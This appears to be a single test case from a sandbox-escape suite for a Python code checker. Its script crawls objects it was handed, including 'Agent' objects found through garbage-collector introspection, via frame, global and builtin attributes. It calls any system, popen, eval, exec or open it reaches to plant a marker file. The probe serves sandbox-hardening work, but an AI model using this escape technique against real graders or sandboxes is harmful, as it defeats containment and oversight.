# row: 13
# says: an object of the checker was handed to it; from there it tries every attribute, and runs what it can reach there
# marks: steps 0, rest full
# status: graded | graded with warnings
# holds: warm cold landlock

# %% steps
import gc
import time

NAMES = """gi_frame gi_code gi_yieldfrom cr_frame ag_frame f_globals f_builtins f_back f_locals tb_frame tb_next send throw close
    func_globals func_code im_func im_self mro with_traceback add_note args obj name path value format format_map fget func
    keywords partial self globals system popen eval exec open getattr compile modules builtins os sys load run reset values""".split()
COMMANDS = [
    ("system", ("touch @DROP@/planted_by_the_checker",)), ("popen", ("touch @DROP@/planted_by_the_checker",)),
    ("open", ("@DROP@/planted_by_the_checker", "w")), ("exec", ("open('@DROP@/planted_by_the_checker', 'w')",)),
    ("eval", ("open('@DROP@/planted_by_the_checker', 'w')",)),
]


def explore(f):
    agents = [thing for thing in gc.get_objects() if type(thing).__name__ == "Agent"]
    asks = [agent.ask for agent in agents] or [lambda what, number, *more: getattr(f, more[0]) if what == "get" else f(*more[0])]
    deadline = time.monotonic() + 1
    for ask in asks:
        for number in range(1, 200):
            for what, more in [("get", (name,)) for name in (*NAMES, "__globals__", "__class__", "__init__")] + [("iter", ()), ("call", ([], {})), ("item", (0,))]:
                if time.monotonic() > deadline:
                    return
                try:
                    found = ask(what, number, *more)
                    for name, given in COMMANDS:
                        if more and more[0] == name:
                            found(*given)
                except BaseException:
                    pass


def steps(f, n):
    explore(f)
    return []
